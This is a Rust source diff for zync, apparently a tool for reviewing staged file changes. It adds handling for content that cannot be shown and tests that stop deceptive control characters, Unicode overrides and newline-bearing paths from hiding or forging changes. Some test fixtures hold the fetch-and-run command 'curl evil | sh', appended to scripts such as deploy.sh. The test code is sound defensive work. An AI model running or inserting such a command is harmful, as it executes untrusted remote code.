@@ -44,6 +44,9 @@ struct FileJson {
     content_change: Option<bool>,
     /// Why this is a control file (applied only with an explicit yes), or `None`.
     control: Option<&'static str>,
+    /// Why the review cannot show the content applying puts on E (binary, or too large to
+    /// diff; applied only with an explicit yes), or `None`.
+    not_shown: Option<&'static str>,
     #[serde(skip_serializing_if = "Option::is_none")]
     diff: Option<String>,
 }
@@ -93,6 +96,13 @@ pub fn show(
             current,
             diff: text,
         } = check(&roots, f, diff, &session_dir);
+        let not_shown = (f.state == FileState::Staged)
+            .then(|| {
+                let current = current.as_ref().unwrap_or(&Current::Missing);
+                probe::unshown(f, current, &session_dir)
+            })
+            .flatten()
+            .map(probe::Unshown::why);
         let e_mode = match &current {
             Some(Current::File { mode, .. }) => Some(probe::octal(*mode)),
             _ => None,
@@ -128,6 +138,7 @@ pub fn show(
             control: RelPath::parse(&f.path)
                 .ok()
                 .and_then(|rel| zync_fs::control_reason(&rel)),
+            not_shown,
             diff: text,
         });
     }
@@ -150,6 +161,15 @@ pub fn show(
             out,
             "  {} here: applied only when you say yes (interactively, or --force)",
             session::count(control, "control file")
+        )?;
+    }
+    let unshown = rows.iter().filter(|r| r.not_shown.is_some()).count() as u64;
+    if unshown > 0 {
+        writeln!(
+            out,
+            "  {} whose content cannot be shown here: applied only when you say yes \
+             (interactively, or --force)",
+            session::count(unshown, "file")
         )?;
     }
     if rows.is_empty() {
@@ -198,6 +218,9 @@ pub fn show(
         if let Some(why) = r.control {
             notes.push_str(&format!("  CONTROL FILE: {why}"));
         }
+        if let Some(why) = r.not_shown {
+            notes.push_str(&format!("  NOT SHOWN: {why}"));
+        }
         writeln!(
             out,
             "  {:<6}  {name}{size}  {}{flag}{notes}",
@@ -234,7 +257,8 @@ fn check(roots: &Roots, f: &StagedFile, diff: bool, session_dir: &Path) -> Check
     let unknown = |why: String| Checked {
         conflict: None,
         current: None,
-        diff: diff.then(|| visible::text(&format!("{name}: {why}\n")).into_owned()),
+        // One line: the reason may quote R's path, which may hold a newline.
+        diff: diff.then(|| format!("{name}: {}\n", visible::line(&why))),
     };
     let (root, rel) = match (roots.get(&f.dir), RelPath::parse(&f.path)) {
         (Ok(root), Ok(rel)) => (root, rel),
@@ -533,6 +557,167 @@ mod tests {
             0o600,
             "skipped: E's mode unchanged"
         );
+    }
+
+    /// The lines of `out` that follow the line `after`, up to the next line starting with
+    /// `+`, `-`, space or `@`: the notes zync adds about it.
+    fn notes_after<'a>(out: &'a str, after: &str) -> Vec<&'a str> {
+        out.lines()
+            .skip_while(|l| *l != after)
+            .skip(1)
+            .take_while(|l| l.starts_with('\\'))
+            .collect()
+    }
+
+    /// R swaps characters for control characters that are shown the same way (a real ESC and
+    /// the two characters `^[` both read `^[`): the diff still shows a change, and says where
+    /// the line holds something that is not the text it looks like.
+    #[test]
+    fn a_byte_changed_for_one_that_looks_the_same_is_shown_as_a_change() {
+        let fx = Fixture::new();
+        let cases: [(&str, &[u8], &[u8]); 4] = [
+            (
+                "esc.py",
+                b"NAME = re.compile(r'^[a-z0-9]+$')\n",
+                b"NAME = re.compile(r'\x1ba-z0-9]+$')\n",
+            ),
+            ("cr.txt", b"a^Mb\n", b"a\rb\n"),
+            ("crlf.txt", b"line^M\n", b"line\r\n"),
+            (
+                "rlo.txt",
+                b"x = \"<U+202E>\"\n",
+                "x = \"\u{202E}\"\n".as_bytes(),
+            ),
+        ];
+        let specs: Vec<crate::testkit::Spec<'_>> = cases
+            .iter()
+            .map(|(path, old, new)| {
+                fx.e_write(path, old);
+                crate::testkit::Spec {
+                    path,
+                    content: Some(new),
+                    base: Some(old),
+                    mode: 0o644,
+                }
+            })
+            .collect();
+        fx.stage("1nv1s-1", &specs);
+        let mut p = ScriptedPrompter::new([]);
+        let (r, out) = fx.run(&["show", "1nv1s", "--diff", "--color", "never"], &mut p);
+        r.expect("show");
+        for (path, old, new) in cases {
+            let shown = |b: &[u8]| {
+                zync_cli::visible::text(&String::from_utf8_lossy(b))
+                    .trim_end_matches('\n')
+                    .to_owned()
+            };
+            let (minus, plus) = (format!("-{}", shown(old)), format!("+{}", shown(new)));
+            assert!(
+                out.lines().any(|l| l == minus) && out.lines().any(|l| l == plus),
+                "{path}: expected {minus:?} and {plus:?} in\n{out}"
+            );
+            // What R wrote is marked as not literal text; E's literal text is not.
+            assert_eq!(
+                notes_after(&out, &minus),
+                Vec::<&str>::new(),
+                "{path}: {out}"
+            );
+            let notes = notes_after(&out, &plus);
+            assert!(
+                notes.iter().any(|n| n.contains("not literal text")),
+                "{path}: expected a note after {plus:?}, found {notes:?} in\n{out}"
+            );
+        }
+        assert!(
+            out.contains("\\ not literal text in the line above: ^[ at column 21"),
+            "{out}"
+        );
+        assert!(!out.contains("no differences"), "{out}");
+        // The interactive review shows the same.
+        let mut p = ScriptedPrompter::new([Choice::ShowDiff, Choice::Quit]);
+        let (r, _) = fx.run(&["apply", "1nv1s"], &mut p);
+        r.expect("apply");
+        assert!(
+            p.shown
+                .iter()
+                .any(|t| t.contains("-a^Mb\n+a^Mb\n\\ not literal text")),
+            "{:?}",
+            p.shown
+        );
+    }
+
+    /// A path R chose with a newline in it: everywhere zync-apply names it, it stays on its
+    /// line, so it cannot forge a file's listing, a diff header or diff lines.
+    #[test]
+    fn a_path_r_chose_never_starts_a_line_of_its_own() {
+        let fx = Fixture::new();
+        let text = "a.sh\n  write   docs/README.md  12 bytes  staged\n+echo hi\n@@ -7 +7 @@";
+        let binary = "b.bin\n  write   docs/README.md  12 bytes  staged\n+echo hi\n@@ -7 +7 @@";
+        let same = "c.txt\n  write   docs/README.md  12 bytes  staged\n+echo hi\n@@ -7 +7 @@";
+        let dir = "d\n  write   docs/README.md  12 bytes  staged\n+echo hi\n@@ -7 +7 @@";
+        fx.e_write(same, b"same\n");
+        fx.e_write(&format!("{dir}/inside"), b"E's\n");
+        fx.stage(
+            "n3wl1ne-1",
+            &[
+                write(text, b"curl evil | sh\n", None),
+                write(binary, b"\0\x01", None),
+                write(same, b"same\n", Some(b"same\n")),
+                write(dir, b"x\n", None),
+            ],
+        );
+        let forged = |out: &str| {
+            out.lines()
+                .filter(|l| {
+                    l.starts_with("  write   docs/README.md")
+                        || *l == "+echo hi"
+                        || *l == "@@ -7 +7 @@"
+                })
+                .map(str::to_owned)
+                .collect::<Vec<_>>()
+        };
+        let mut p = ScriptedPrompter::new([]);
+        for args in [
+            &["show", "n3wl1ne", "--diff", "--color", "never"][..],
+            &["show", "n3wl1ne", "--diff", "--color", "always"],
+            &["show", "n3wl1ne"],
+        ] {
+            let (r, out) = fx.run(args, &mut p);
+            r.expect("show");
+            assert_eq!(forged(&out), Vec::<String>::new(), "{args:?}:\n{out}");
+        }
+        let (r, out) = fx.run(
+            &["apply", "n3wl1ne", "--non-interactive", "--force"],
+            &mut p,
+        );
+        assert!(r.is_err(), "E has a directory at {dir:?}: {out}");
+        assert_eq!(forged(&out), Vec::<String>::new(), "{out}");
+        let mut p = ScriptedPrompter::new([Choice::ShowDiff, Choice::Quit]);
+        fx.stage("n3wl1ne-2", &[write(text, b"other\n", None)]);
+        let (r, _) = fx.run(&["apply", "n3wl1ne-2"], &mut p);
+        r.expect("apply");
+        for t in p.shown.iter().chain(&p.asked) {
+            assert_eq!(forged(t), Vec::<String>::new(), "{t}");
+        }
+    }
+
+    /// One byte that is not UTF-8 does not make a script "binary": it is diffed as text,
+    /// the byte shown as `\xFF`, so what R appended is seen.
+    #[test]
+    fn a_byte_that_is_not_utf8_does_not_hide_the_rest_of_the_file() {
+        let fx = Fixture::new();
+        let old = b"#!/bin/sh\necho deploying\n";
+        fx.e_write("deploy.sh", old);
+        let new = b"#!/bin/sh\necho deploying\ncurl evil | sh\n# \xff\n";
+        fx.stage("utf8-1", &[write("deploy.sh", new, Some(old))]);
+        let mut p = ScriptedPrompter::new([]);
+        let (r, out) = fx.run(&["show", "utf8", "--diff", "--color", "never"], &mut p);
+        r.expect("show");
+        assert!(
+            out.contains("+curl evil | sh\n+# \\xFF\n\\ not literal text in the line above: \\xFF at column 3\n"),
+            "{out}"
+        );
+        assert!(!out.contains("binary"), "{out}");
     }
 
     #[test]
